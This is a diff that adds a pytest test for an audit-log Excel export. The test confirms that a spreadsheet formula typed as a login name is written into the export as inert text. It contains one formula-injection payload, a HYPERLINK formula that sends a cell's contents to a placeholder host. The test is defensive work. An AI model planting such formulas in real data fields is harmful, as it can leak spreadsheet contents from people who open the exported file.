@@ -111,3 +111,23 @@ def test_the_audit_log_filter_defaults_to_the_last_30_days_in_wib():
 
     evening_utc = dt.datetime(2026, 12, 4, 17, 30, tzinfo=dt.timezone.utc)  # 00:30 WIB on 5 December
     assert default_period(evening_utc) == (dt.date(2026, 11, 5), dt.date(2026, 12, 5))
+
+
+def test_a_formula_typed_as_a_user_name_is_no_live_cell_in_the_audit_export(db):
+    """Every column, not only the detail: a failed login writes the typed name into the log."""
+    import io as _io
+
+    from openpyxl import load_workbook
+
+    from lib.base import accounts
+    from lib.base.audit import export_xlsx
+
+    evil = '=HYPERLINK("http://contoh.invalid/?d="&B2,"klik")'
+    with db.begin() as s:
+        accounts.authenticate(s, evil, "salah")
+    with db.begin() as s:
+        data = export_xlsx(s, accounts.load_actor(s, "admin"))
+    cells = [c.value for row in load_workbook(_io.BytesIO(data)).active.iter_rows() for c in row]
+    texts = [v for v in cells if isinstance(v, str)]
+    assert any(evil.lower() in v.lower() for v in texts), "the attempt is in the export"
+    assert not [v for v in texts if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
